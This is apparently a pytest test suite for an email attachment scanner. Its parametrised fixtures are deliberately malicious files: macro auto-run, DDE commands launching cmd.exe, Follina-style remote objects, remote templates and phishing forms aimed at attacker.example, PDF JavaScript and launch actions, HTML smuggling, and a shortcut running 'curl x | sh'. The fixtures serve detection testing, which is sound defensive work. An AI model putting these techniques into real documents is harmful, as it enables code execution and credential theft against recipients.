"""What is found inside of single files: each kind of attack by its own code, and nothing in honest files of the same kinds."""

from __future__ import annotations

import base64
import struct

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from gatepost.checks.attachments.formats import MAGIC, Kind
from gatepost.checks.attachments.inspect import inspect_file
from gatepost.checks.attachments.item import Inspection
from gatepost.checks.attachments.kinds import kind_of
from gatepost.checks.attachments.objects import URL_MONIKER
from gatepost.mail import file_limits, limits
from support import files
from support.compound_file import Storage, compound

PASSWORDS = ("wrong", "infected")
EXCEL_TRIES = "VelvetSweatshop"


def look(name: str, data: bytes) -> Inspection:
    """Inspect a file as the jail does: its kind first."""
    return inspect_file(kind_of(data, name), name, data, PASSWORDS)


def words(inspection: Inspection) -> set[str]:
    """Give the last words of the codes that were found."""
    return {finding.code.removeprefix("attachment.") for finding in inspection.findings}


def instruction(text: str) -> str:
    """Give a header of a Word document with a field that is cut into two runs."""
    return f"<w:hdr><w:instrText>{text[:3]}</w:instrText><w:instrText>{text[3:]}</w:instrText></w:hdr>"


RELS = "word/_rels/document.xml.rels"
DDE_LINK = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
AUTO_OPEN = '<workbook><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>'
JAVASCRIPT = files.action("JavaScript", JS="app.launchURL('https://login.attacker.example/verify?id=7')")
PERCENT = "".join(
    f"%{byte:02x}" for byte in b"<html><body><form><input type='password'></form><script>go()</script></body></html>"
)

OFFICE = [
    ("auto macro.docm", files.with_macro(), {"macro", "autoopen", "suspicious-macro"}),
    ("macro.docm", files.with_macro("Function Total(a)\r\nTotal = a * 1.19\r\nEnd Function"), {"macro"}),
    (
        "macro.doc",
        files.doc({"Macros": files.vba_project(files.AUTO_MACRO)}),
        {"macro", "autoopen", "suspicious-macro"},
    ),
    ("sheet.xls", files.macro_sheet(), {"macro", "autoopen"}),
    (
        "sheet.xlsm",
        files.docx(parts={"xl/macrosheets/sheet1.xml": "<x/>", "xl/workbook.xml": AUTO_OPEN}),
        {"macro", "autoopen"},
    ),
    (
        "template.docx",
        files.docx(parts={RELS: files.relation("attachedTemplate", "https://attacker.example/t.dotm")}),
        {"template"},
    ),
    (
        "share.docx",
        files.docx(parts={RELS: files.relation("attachedTemplate", "\\\\192.0.2.1\\share\\t.dotm")}),
        {"template"},
    ),
    (
        "follina.docx",
        files.docx(parts={RELS: files.relation("oleObject", "mhtml:https://attacker.example/x.html!x")}),
        {"remote-object"},
    ),
    (
        "dde.docx",
        files.docx(parts={"word/header1.xml": instruction('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')}),
        {"dde"},
    ),
    ("dde.xlsx", files.docx(parts={"xl/externalLinks/externalLink1.xml": DDE_LINK}), {"dde"}),
    (
        "dde.doc",
        compound({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 508 + b'\x13 DDEAUTO c:\\cmd.exe "/k calc" \x14x\x15'}),
        {"dde"},
    ),
    ("package.docx", files.docx(parts={"word/embeddings/oleObject1.bin": compound({"x": b"y"})}), {"object"}),
    (
        "package.doc",
        files.doc(
            {"ObjectPool": Storage({"_1": Storage({"\1Ole10Native": files.native_object("a.exe", files.PROGRAM)})})}
        ),
        {"object"},
    ),
    ("activex.docx", files.docx(parts={"word/activeX/activeX1.bin": b"x"}), {"activex"}),
    ("equation.doc", files.doc({"ObjectPool": Storage({"_1": Storage({"Equation Native": b"x"})})}), {"equation"}),
    (
        "class.doc",
        files.doc({"ObjectPool": Storage({"_1": Storage({"x": b"x"}, clsid="0002CE02-0000-0000-C000-000000000046")})}),
        {"equation"},
    ),
    ("equation.rtf", files.rtf_object("Equation.3", b"x" * 60), {"equation"}),
    ("package.rtf", files.rtf_object("Package", files.native_object("a.exe", files.PROGRAM)[4:]), {"object"}),
    ("object.rtf", files.rtf_object("OtherClass", b"x" * 60), {"object"}),
    ("template.rtf", files.rtf(r"{\*\template https://attacker.example/t.dot}"), {"template"}),
    ("escaped.rtf", files.rtf(r"{\*\template \u104?\u116?\u116?\u112?\u58?\u47?\u47?x}"), {"template"}),
    ("dde.rtf", files.rtf(r'{\field{\*\fldinst {DDEAUTO c:\\cmd.exe "/k calc"}}}'), {"dde"}),
    ("sealed.docx", files.encrypted_docx("not given"), {"encrypted"}),
    ("given.docx", files.encrypted_docx("infected"), {"decrypted"}),
    ("excel tries.xlsx", files.encrypted_docx(EXCEL_TRIES), {"hidden-encryption"}),
    ("table.csv", b"name,sum\r\n=cmd|'/c calc'!A0,1\r\n", {"dde"}),
    (
        "basic.odt",
        files.archive(
            {"mimetype": "application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml": "<x/>"}, stored=True
        ),
        {"macro"},
    ),
]

PORTABLE = [
    ("opens.pdf", files.pdf({"/OpenAction": JAVASCRIPT}), {"openaction", "javascript"}),
    (
        "script.pdf",
        files.pdf({"/Names": pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["x", JAVASCRIPT]))}),
        {"openaction", "javascript"},
    ),
    ("launch.pdf", files.pdf({"/OpenAction": files.action("Launch", F="cmd.exe")}), {"openaction", "launch"}),
    (
        "share.pdf",
        files.pdf({"/OpenAction": files.action("GoToR", F="\\\\192.0.2.1\\x.pdf")}),
        {"openaction", "launch"},
    ),
    ("carries.pdf", files.pdf(embedded={"a.exe": files.PROGRAM}), {"embedded"}),
    (
        "form.pdf",
        files.pdf({"/OpenAction": files.action("SubmitForm", F="https://attacker.example/")}),
        {"openaction", "submit"},
    ),
    ("sealed.pdf", files.pdf(encryption=pikepdf.Encryption(user="not given", owner="x")), {"encrypted"}),
    ("given.pdf", files.pdf(encryption=pikepdf.Encryption(user="infected", owner="x")), {"decrypted"}),
    (
        "streams.pdf",
        files.pdf({"/OpenAction": JAVASCRIPT}, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        {"openaction", "javascript"},
    ),
    ("broken.pdf", b"%PDF-1.4\n1 0 obj<</S/J#61vaScript/JS(x)>>", {"damaged", "javascript"}),
    ("code.pdf", files.pdf_with_code(files.LINK), {"qr"}),
    ("also an archive.pdf", files.pdf() + files.archive({"a.exe": files.PROGRAM}), {"polyglot"}),
]

PAGES = [
    ("smuggles.html", files.smuggling_page(files.archive({"a.exe": files.PROGRAM})), {"smuggled", "activehtml"}),
    (
        "builds.html",
        b"<html><script>a.href=URL.createObjectURL(new Blob([x()]));a.download='a.zip'</script>",
        {"smuggled", "activehtml"},
    ),
    (
        "link.html",
        b'<a download="a.zip" href="data:application/zip;base64,'
        + base64.b64encode(files.archive({"a": "b" * 50}))
        + b'">x</a>',
        {"smuggled"},
    ),
    (
        "codes.html",
        b"<script>x=[" + ",".join(str(byte) for byte in files.PROGRAM).encode() + b"]</script>",
        {"smuggled", "activehtml"},
    ),
    (
        "joined.html",
        b"<script>x='"
        + base64.b64encode(files.PROGRAM)[:100]
        + b"' + '"
        + base64.b64encode(files.PROGRAM)[100:]
        + b"'</script>",
        {"smuggled", "activehtml"},
    ),
    (
        "writes.html",
        f"<script>document.write(unescape('{PERCENT}'))</script>".encode(),
        {"obfuscated", "login-form", "activehtml"},
    ),
    ("login.html", b"<form action='https://attacker.example/'><input name=p type=password></form>", {"login-form"}),
    ("leads.html", b"<meta http-equiv=refresh content='0; url=https://attacker.example/'>", {"redirect"}),
    (
        "goes.html",
        b"<html><script>window.location.href='https://attacker.example/'</script>",
        {"redirect", "activehtml"},
    ),
    ("opens.html", b"<html><a href='search-ms:query=x&crumb=location:\\\\192.0.2.1'>x</a>", {"protocol"}),
    (
        "drawing.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'><circle/></svg>",
        {"activehtml", "active-drawing"},
    ),
    (
        "smuggles.svg",
        b"<svg><script>x='" + base64.b64encode(files.archive({"a": "b" * 50})) + b"'</script></svg>",
        {"smuggled", "activehtml", "active-drawing"},
    ),
]

PAGES += [
    (
        "frame.html",
        b"<iframe src='data:text/html;base64," + base64.b64encode(b"<html><input type=password name=p></html>") + b"'>",
        {"obfuscated", "login-form"},
    ),
    (
        "taken apart.html",
        b"<script>x=window['URL']['createObje'+'ctURL'](new window['Bl'+'ob']([y]))</script>",
        {"smuggled", "activehtml"},
    ),
]
OFFICE += [
    ("frame.docx", files.docx(parts={RELS: files.relation("frame", "https://attacker.example/x.html")}), {"external"}),
    ("moniker.rtf", files.rtf_object("OLE2Link", b"x" * 20 + URL_MONIKER + b"y" * 20), {"object", "remote-object"}),
    ("moniker.doc", files.doc({"\1Ole": b"x" * 20 + URL_MONIKER + b"y" * 20}), {"remote-object"}),
    (
        "sheet.xlsb",
        files.docx(parts={"xl/macrosheets/sheet1.bin": b"x", "xl/workbook.bin": "Auto_Open".encode("utf-16-le")}),
        {"macro", "autoopen"},
    ),
]

PAGES += [
    ("commented.svg", b"<!-- a drawing --><svg onload='x()'></svg>", {"activehtml", "active-drawing"}),
    (
        "page in.xml",
        b"<?xml version='1.0'?><a><h:script xmlns:h='http://www.w3.org/1999/xhtml'>x</h:script><script>y</script></a>",
        {"activehtml"},
    ),
]

OTHERS = [
    ("report.lnk", files.lnk(), {"shortcut"}),
    ("share.url", b"[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.exe\r\n", {"shortcut"}),
    ("icon.url", b"[InternetShortcut]\r\nURL=https://example.org/\r\nIconFile=\\\\192.0.2.1\\x.ico\r\n", {"shortcut"}),
    ("page.url", b"[InternetShortcut]\r\nURL=https://example.org/\r\n", {"weblink"}),
    ("a.desktop", b"[Desktop Entry]\nExec=sh -c 'curl x | sh'\n", {"shortcut"}),
    ("notes.one", files.onenote(files.PROGRAM), {"object"}),
    ("script.one", files.onenote(b"WScript.CreateObject(0)"), {"object", "script"}),
    ("code.png", files.png(files.qr_image(files.LINK)), {"qr"}),
    ("photo.png", files.png() + files.archive({"a.exe": files.PROGRAM}), {"polyglot"}),
    ("picture.png", files.png() + b"Rar!\x1a\x07\1\0" + b"x" * 60, {"polyglot"}),
]


@pytest.mark.parametrize(("name", "data", "expected"), [*OFFICE, *PORTABLE, *PAGES, *OTHERS])
def test_each_attack_has_its_code(name: str, data: bytes, expected: set[str]) -> None:
    """A file is found to be exactly what was made dangerous about it."""
    assert words(look(name, data)) == expected


HONEST = [
    ("minutes.docx", files.docx(parts={RELS: files.relation("hyperlink", "https://example.org/")})),
    ("picture.docx", files.docx(parts={"word/media/image1.png": files.png()})),
    ("chart.pptx", files.docx(parts={"ppt/embeddings/workbook1.xlsx": files.docx()})),
    ("printed.xlsx", files.docx(parts={"xl/printerSettings/printerSettings1.bin": b"x" * 100})),
    ("template.docx", files.docx(parts={RELS: files.relation("attachedTemplate", "Normal.dotm")})),
    ("field.docx", files.docx(parts={"word/header1.xml": instruction("PAGE \\* MERGEFORMAT")})),
    ("minutes.doc", files.doc()),
    ("sums.xls", files.workbook(struct.pack("<HH", 0x85, 8) + b"\0\0\0\0\0\0\1A")),
    ("letter.rtf", files.rtf(r"{\field{\*\fldinst HYPERLINK ""https://example.org/""}}")),
    ("report.pdf", files.pdf()),
    ("jumps.pdf", files.pdf({"/OpenAction": files.action("GoTo", D="x")})),
    ("compressed.pdf", files.pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    ("printable.pdf", files.pdf(encryption=pikepdf.Encryption(user="", owner="x"))),
    ("page.html", b"<!DOCTYPE html><html><head><style>p {}</style></head><body><p>Minutes</p><img src='data:image/png;base64," + base64.b64encode(files.png()) + b"'></body></html>"),
    ("structured.html", b'<html><script type="application/ld+json">{"@type": "EmailMessage"}</script></html>'),
    ("saved by office.html", b"<html><link rel=File-List href='file:///C:/Users/a/filelist.xml'><a href='file:///C:/a.txt'>x</a></html>"),
    ("shows a report.html", b"<html><embed src='data:application/pdf;base64," + base64.b64encode(files.pdf()) + b"'></html>"),
    ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><circle r='1'/></svg>"),
    ("photo.png", files.png()),
    ("contract.docx.p7m", b"\x30\x82\x10\x00\x06\x09" + b"\1" * 60 + files.docx() + b"\xa0\x82" + b"\2" * 900),
    ("holds a workbook.pdf", files.pdf()[:-7] + files.docx() + b"\nendstream endobj trailer startxref %%EOF"),
    ("notes.one", files.onenote(files.png())),
    ("table.csv", b"name,sum\r\n-5,=A1+B2\r\n+49 30 1234,x\r\n"),
    ("meeting.ics", b"BEGIN:VCALENDAR\r\nSUMMARY:Minutes\r\nEND:VCALENDAR\r\n"),
    ("feed.xml", b"<?xml version='1.0'?><rss><item>x</item></rss>"),
    ("server.log", b"GET /atob HTTP/1.1 \x1b[0m\n" * 50),
    ("fix.patch", b"--- a/x.js\n+++ b/x.js\n+ document.write(atob(x))\n"),
    ("minutes.msg", files.outlook_message("minutes.txt", b"text")),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data"), HONEST)
def test_honest_files_have_no_finding(name: str, data: bytes) -> None:
    """What honest people send of the same kinds is nothing remarkable."""
    assert words(look(name, data)) == set()


LEADS = [
    ("a.pdf", files.pdf({"/AA": pikepdf.Dictionary(WC=files.action("URI", URI=files.LINK))})),
    ("script.pdf", files.pdf({"/OpenAction": JAVASCRIPT})),
    ("code.pdf", files.pdf_with_code(files.LINK)),
    ("code.png", files.png(files.qr_image(files.LINK))),
    ("inverted.png", files.png(Image.eval(files.qr_image(files.LINK), lambda value: 255 - value))),
    ("turned.png", files.png(files.qr_image(files.LINK).rotate(37, expand=True, fillcolor=255))),
    ("code.docx", files.docx(parts={"word/media/image1.png": files.png(files.qr_image(files.LINK))})),
    ("link.docx", files.docx(parts={RELS: files.relation("hyperlink", files.LINK)})),
    ("macro.docm", files.with_macro()),
    ("link.doc", files.doc({"Data": files.LINK.encode("utf-16-le") + b"\0\0"})),
    ("link.rtf", files.rtf(r'{\field{\*\fldinst HYPERLINK "' + files.LINK + '"}}')),
    ("a.html", f"<a href='{files.LINK}'>x</a>".encode()),
    ("hidden.html", f"<script>x='{base64.b64encode(b'<html><a href=' + files.LINK.encode() + b'>click here to go on</a>').decode()}'</script>".encode()),
    ("a.msg", files.outlook_message("a.txt", b"x")),
    ("a.eml", f"Subject: x\r\nFrom: a@b.example\r\n\r\n{files.LINK}\r\n".encode()),
    ("a.txt", files.LINK.encode("utf-16")),
    ("a.ics", f"BEGIN:VCALENDAR\r\nURL:{files.LINK[:20]}\r\n {files.LINK[20:]}\r\n".encode()),
    ("a.vcf", f"BEGIN:VCARD\r\nURL:{files.LINK}\r\n".encode()),
    ("a.url", f"[InternetShortcut]\r\nURL={files.LINK}\r\n".encode()),
    ("a.lnk", files.lnk(f"/c start {files.LINK}")),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data"), LEADS)
def test_links_are_read_from_every_kind(name: str, data: bytes) -> None:
    """Where a file leads is told, in whatever form it says so."""
    assert files.LINK in look(name, data).urls


TEXTS = [
    ("a.pdf", files.pdf(text="The quick brown fox")),
    ("a.docx", files.docx("The quick brown fox")),
    ("a.pptx", files.docx(parts={"ppt/slides/slide1.xml": "<a:t>The quick brown fox</a:t>"})),
    ("a.odt", files.archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<text:p>The quick <text:b>brown</text:b> fox</text:p>"}, stored=True)),
    ("a.rtf", files.rtf(r"{\b The} quick brown fox")),
    ("a.html", b"<html><script>var x</script><p>The <b>quick</b> brown fox</p>"),
    ("a.eml", b"Subject: The quick brown fox\r\nFrom: a@b.example\r\n\r\nx"),
    ("a.ics", b"BEGIN:VCALENDAR\r\nSUMMARY:The quick brown fox\r\n"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data"), TEXTS)
def test_text_is_read_from_every_kind(name: str, data: bytes) -> None:
    """What a person would read in a file is given as text."""
    assert "The quick brown fox" in " ".join(look(name, data).text.split())


CARRIES = [
    ("a.docx", files.docx(parts={"word/embeddings/a.bin": files.PROGRAM}), Kind.PE),
    ("a.doc", files.doc({"P": Storage({"\1Ole10Native": files.native_object("a.exe", files.PROGRAM)})}), Kind.PE),
    ("a.rtf", files.rtf_object("Package", files.native_object("a.exe", files.PROGRAM)[4:]), Kind.PE),
    ("a.pdf", files.pdf(embedded={"a.exe": files.PROGRAM}), Kind.PE),
    ("a.one", files.onenote(files.PROGRAM), Kind.PE),
    ("a.html", files.smuggling_page(files.PROGRAM), Kind.PE),
    ("a.msg", files.outlook_message("a.exe", files.PROGRAM), Kind.PE),
    ("a.png", files.png() + files.archive({"a": "b"}), Kind.ZIP),
    ("given.docx", files.encrypted_docx("infected"), Kind.OOXML),
    ("a.eml", b"Subject: x\r\nFrom: y@z.example\r\nContent-Type: application/x; name=a.exe\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(files.PROGRAM).replace(b"\n", b"\r\n"), Kind.PE),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data", "kind"), CARRIES)
def test_files_inside_are_given_out(name: str, data: bytes, kind: Kind) -> None:
    """What lies inside of a file becomes a file in its turn."""
    assert kind in {kind_of(member.content, member.name) for member in look(name, data).members}


HEADS = [magic for magic, _ in MAGIC] + [
    b"PK\3\4",
    b"<html><script>",
    b"<svg>",
    b"[InternetShortcut]\n",
    b"From: x\nSubject: y\n\n",
]
SEEDS = [data for _, data in HONEST]


@settings(max_examples=150)
@given(st.sampled_from(HEADS), st.binary(max_size=3_000), st.sampled_from(["a.bin", "a.html", "a.js", "a.csv", ""]))
def test_arbitrary_bytes_never_raise(head: bytes, tail: bytes, name: str) -> None:
    """Whatever follows a format's first bytes is answered, and no reader fails on it unexpectedly."""
    assert "error" not in words(look(name, head + tail))


@settings(max_examples=150)
@given(st.sampled_from(SEEDS), st.integers(0, 5_000), st.binary(min_size=1, max_size=40), st.booleans())
def test_damaged_files_never_raise(data: bytes, at: int, noise: bytes, cut: bool) -> None:
    """A file that was cut off, or has other bytes in its middle, is answered as well."""
    at %= len(data) + 1
    damaged = data[:at] + noise + (b"" if cut else data[at + len(noise) :])
    assert "error" not in words(look("a", damaged))


def test_what_is_given_out_is_bounded() -> None:
    """No file decides how much is kept of it."""
    page = look(
        "a.html",
        b"<html>" + b"".join(b"<a href='https://example.org/%d'>many words</a> " % number for number in range(20_000)),
    )
    assert len(page.urls) <= limits.URLS
    assert len(page.text) <= file_limits.FILE_TEXT_CHARACTERS + 1
    section = look("a.one", files.onenote(*[b"file %d" % number for number in range(500)]))
    assert len(section.members) <= file_limits.FILE_MEMBERS


def test_the_script_behind_a_large_literal_is_seen() -> None:
    """A page larger than what is searched is searched at both ends, and says that it was not read whole."""
    blob = b"A" * (file_limits.MARKUP_BYTES + 100)
    page = (
        b"<html><script>d='" + blob + b"';a.href=URL.createObjectURL(new Blob([d]));a.download='x.zip'</script></html>"
    )
    assert {"smuggled", "partial"} <= words(look("a.html", page))


SLOW = [
    ("tags.html", b"<script " * 400_000),
    ("quotes.html", b"<html>" + b"'=\"+" * 600_000),
    ("percent.html", b"<html>" + b"%41" * 900_000),
    ("numbers.html", b"<html>" + b"[1,2,3," * 400_000),
    ("relations.docx", files.docx(parts={RELS: b"<Relationship TargetMode " * 300_000})),
    ("fields.docx", files.docx(parts={"word/document.xml": b"<w:instrText " * 300_000})),
    ("groups.rtf", b"{\\rtf1" + b"{\\*\\template " * 150_000),
    ("fields.rtf", b"{\\rtf1" + b"\\fldinst " * 300_000),
    ("formulas.csv", b'"=' * 1_000_000),
    ("link.txt", b"http://" * 500_000),
    ("names.pdf", b"%PDF-1.4\n" + b"/J#61" * 400_000),
    ("objects.pdf", b"%PDF-1.4\n" + b"stream\n" * 300_000),
]


@pytest.mark.parametrize(("name", "data"), SLOW)
def test_nothing_is_quadratic(name: str, data: bytes) -> None:
    """Repeating what a pattern begins with, megabytes long, costs no more than reading it."""
    inspection = look(name, data)
    assert len(inspection.text) <= file_limits.FILE_TEXT_CHARACTERS + 1
